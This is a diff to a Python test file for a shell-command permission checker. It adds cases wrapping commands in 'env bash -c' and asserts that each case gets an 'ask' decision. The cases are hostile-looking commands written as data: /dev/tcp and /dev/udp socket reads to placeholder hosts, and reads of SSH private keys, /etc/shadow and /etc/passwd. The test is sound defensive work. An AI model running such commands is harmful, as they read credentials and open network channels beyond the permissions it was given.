@@ -32,10 +32,11 @@ def decide(
     "text",
     ["cat < /dev/tcp/1.2.3.4/80", "pytest -q; cat < /dev/tcp/x.org/80", "pytest < /dev/udp/x/53",
      "exec 3<>/dev/tcp/x/1; cat <&3", "cat < ~/.ssh/id_rsa", "cat < /home/me/.ssh/id_rsa", "cat < ../outside/secret",
-     "cat < /etc/shadow", "cd sub && cat < ../../x", "while read l; do echo $l; done < /etc/passwd"],
+     "cat < /etc/shadow", "cd sub && cat < ../../x", "while read l; do echo $l; done < /etc/passwd",
+     "env bash -c 'cat < /etc/shadow'", "env bash -c 'cat < /dev/tcp/x/1'"],
 )  # fmt: skip
 def test_no_rule_covers_what_a_redirection_reads_outside(text: str, confined: bool) -> None:
-    decision = decide(text, allow=("Bash(cat *)", "Bash(pytest *)", "Bash(read *)", "Bash(echo *)"), confined=confined)
+    decision = decide(text, allow=("Bash(cat *)", "Bash(pytest *)", "Bash(read *)", "Bash(env *)"), confined=confined)
     assert decision.verdict == "ask", decision
 
 
